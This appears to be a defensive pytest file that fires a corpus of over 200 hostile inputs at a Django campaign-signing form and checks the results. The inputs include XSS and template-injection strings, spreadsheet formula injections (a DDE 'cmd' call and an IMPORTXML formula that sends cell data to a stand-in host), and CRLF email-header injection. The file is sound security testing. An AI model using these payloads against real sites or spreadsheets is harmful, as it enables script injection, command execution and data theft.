"""A corpus of hostile input (over 200 cases): for each, the outcome, what was stored, no 500,
nothing rendered unescaped."""

import pytest
from django.core import mail
from django.test import Client

from campaigns.models import CampaignSubmission

TEXT_FIELDS = ("first_name", "last_name", "country", "your_message")
SINGLE_LINE = {"first_name", "last_name", "country"}

SCRIPTS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<iframe src=//evil.example>",
    "{{ 7*7 }}{% debug %}",
    "</textarea><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "'';!--\"<XSS>=&{()}",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x","y")',
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
]
CONTROLS = ["a\x07b", "a\x1bb", "a\x08b", "a\x7fb", "a\x9bb", "a\u2028b", "a\x0bb", "a\x0cb"]
# Stored as typed, but for format characters that only hide or reorder text (campaigns.signing
# .text): the bidi override goes, the joiners inside the family emoji stay.
UNICODE = {
    "陳大文": "陳大文",
    "✊🏽🇭🇰": "✊🏽🇭🇰",
    "\u202eevil": "evil",
    "👩‍👩‍👧": "👩‍👩‍👧",
    "a\u200bb\u2066c\ufeffd\U000e0041": "abcd",
    "end\ufffe\uffff": "end",
}
CRLF = ["Ada\r\nBcc: victim@example.org", "Ada\nSubject: spam"]

INVALID_EMAILS = [
    "plainaddress",
    "@example.org",
    "ada@",
    "ada@@example.org",
    "ada@example",
    "ada example@x.org",
    "ada@exa mple.org",
    "ada@-example.org",
    "ada..b@example.org",
    ".ada@example.org",
    "ada.@example.org",
    "ada@example..org",
    "ada@[127.0.0.1",
    "ada@example.org>",
    "<ada@example.org>",
    "ada@example.org, eve@example.org",
    "ada@example.org\r\nBcc: eve@x.org",
    "ada@example.org\nCc: eve@x.org",
    "用户@example.org",
    "a" * 250 + "@example.org",
    "ada@example.org%0ABcc:eve@x.org",
    "ada(comment)@example.org",
    "ada@.org",
    "<script>@example.org",
    "ada@exam_ple.org",
    # Not on the internet: Django's validator accepts the first two.
    "ada@localhost",
    "ada@[127.0.0.1]",
    "ada@[IPv6:::1]",
    "ada@127.0.0.1",
]
# Accepted, and stored as the address it spells: invisible characters dropped, the domain in its
# IDNA form (what DNS and SMTP use).
NORMALISED_EMAILS = {
    "ada@example.org.": "ada@example.org",
    "ada\x00@example.org": "ada@example.org",
    "ada@example.org\u202e": "ada@example.org",
    "\u200bada@exa\u200dmple.org": "ada@example.org",
    "ada@EXAMPLE.org": "ada@example.org",
    "ada@例子.中国": "ada@xn--fsqu00a.xn--fiqs8s",
}
VALID_EMAILS = ["ada+tag@example.org", "o'brien@example.ie"]


def case(case_id, changes, outcome, check=None):
    return pytest.param(changes, outcome, check, id=case_id)


def cases():
    for field in TEXT_FIELDS:
        for n, payload in enumerate(SCRIPTS):
            # With a bad email the form comes back, showing the payload: it must be escaped.
            yield case(f"script-{field}-{n}", {field: payload, "email": "bad"}, "refused")
        for n, payload in enumerate(FORMULAS):
            yield case(f"formula-{field}-{n}", {field: payload}, "stored", payload)
        for n, payload in enumerate(CONTROLS):
            yield case(f"control-{field}-{n}", {field: payload}, "stored", "ab")
        for n, (payload, stored) in enumerate(UNICODE.items()):
            yield case(f"unicode-{field}-{n}", {field: payload}, "stored", stored)
        for n, payload in enumerate(CRLF):
            yield case(
                f"crlf-{field}-{n}", {field: payload}, "stored", payload.replace("\r\n", "\n")
            )
        # Removed with the other control characters, before validation (Django would refuse it).
        yield case(f"nul-{field}", {field: "a\x00b"}, "stored", "ab")
        limit = 255 if field in SINGLE_LINE else 5000
        yield case(f"at-limit-{field}", {field: "字" * limit}, "stored", "字" * limit)
        yield case(f"over-limit-{field}", {field: "字" * (limit + 1)}, "refused")
        yield case(f"huge-{field}", {field: "x" * 200_000}, 413)
        yield case(f"missing-{field}", {field: None}, "refused")
        yield case(f"blank-{field}", {field: "   "}, "refused")
    for n, address in enumerate(INVALID_EMAILS):
        yield case(f"invalid-email-{n}", {"email": address}, "refused")
    for n, address in enumerate(VALID_EMAILS):
        yield case(f"valid-email-{n}", {"email": address}, "stored", address)
    for n, (address, stored) in enumerate(NORMALISED_EMAILS.items()):
        yield case(f"normalised-email-{n}", {"email": address}, "stored", stored)
    for value in (None, "", "false", "False"):
        yield case(f"no-consent-{value}", {"i_agree_to_be_contacted": value}, "refused")
    # Django reads any other value as a ticked box, as a browser sends it ("on").
    yield case("consent-other-value", {"i_agree_to_be_contacted": "0"}, "stored", True)
    yield case("unknown-fields-ignored", {"is_admin": "1", "page": "1", "id": "5"}, "stored")
    yield case("list-for-a-text-field", {"first_name": ["Ada", "Eve"]}, "stored", "Eve")
    # Held for review, with the usual thanks: the sender learns nothing.
    yield case("honeypot", {"hp_website": "http://x"}, "held")
    yield case("no-form-token", {"form_token": None}, "held")
    yield case("forged-form-token", {"form_token": "r.x.1.y:forged"}, "held")


CASES = list(cases())


def test_the_corpus_has_at_least_200_cases():
    assert len(CASES) >= 200


def post(client, url, data):
    payload = {key: value for key, value in data.items() if value is not None}
    return client.post(url, payload, follow=True)


@pytest.mark.parametrize(("changes", "outcome", "check"), CASES)
def test_hostile_input(client, campaign, valid_post, deliver, changes, outcome, check):
    client.raise_request_exception = False
    before = list(CampaignSubmission.objects.values_list("pk", "form_data"))

    response = post(client, campaign.url, {**valid_post, **changes})
    deliver()

    assert response.status_code < 500
    html = response.content.decode()
    for value in changes.values():
        for part in value if isinstance(value, list) else [value]:
            if isinstance(part, str) and "<" in part:
                assert part not in html
    stored = CampaignSubmission.objects.exclude(pk__in=[pk for pk, _data in before])
    if outcome in ("stored", "held"):
        assert response.status_code == 200
        assert 'id="thank-you-heading"' in html
        submission = stored.get()
        assert (submission.quarantined_at is not None) == (outcome == "held")
        if check is not None:
            field = next(iter(changes))
            assert submission.form_data[field] == check
    else:
        if isinstance(outcome, int):
            assert response.status_code == outcome
        else:
            assert response.status_code == 200
            assert 'class="error-summary"' in html
        assert not stored.exists()
    # Nothing stored before is changed, and no email grew a header from the input.
    assert (
        list(
            CampaignSubmission.objects.filter(pk__in=[pk for pk, _ in before]).values_list(
                "pk", "form_data"
            )
        )
        == before
    )
    for message in mail.outbox:
        headers = message.message().as_string().split("\n\n", 1)[0]
        assert "victim@example.org" not in headers
        assert "Subject: spam" not in headers


def test_a_post_from_another_site_is_refused_without_a_500(campaign, valid_post):
    # Signing needs no CSRF token (the page is cached for everyone: caching/csrf.py), but a
    # browser posting from another site says so.
    client = Client(enforce_csrf_checks=True)

    response = client.post(campaign.url, valid_post, headers={"Origin": "null"}, follow=True)

    assert response.status_code == 403
    assert not CampaignSubmission.objects.exists()


@pytest.mark.parametrize("method", ["put", "patch", "delete"])
def test_wrong_methods_are_refused(client, campaign, method):
    response = getattr(client, method)(campaign.url, data="x=1")

    assert response.status_code == 405
    assert not CampaignSubmission.objects.exists()


def test_too_many_fields_are_refused_without_a_500(client, campaign, valid_post):
    client.raise_request_exception = False
    data = {**valid_post, **{f"f{n}": "x" for n in range(6000)}}

    response = client.post(campaign.url, data, follow=True)

    assert response.status_code in (400, 413)
    assert not CampaignSubmission.objects.exists()


def test_a_json_body_is_not_a_signature(client, campaign):
    response = client.post(
        campaign.url, data='{"email": "a@example.org"}', content_type="application/json"
    )

    assert response.status_code == 200
    assert not CampaignSubmission.objects.exists()
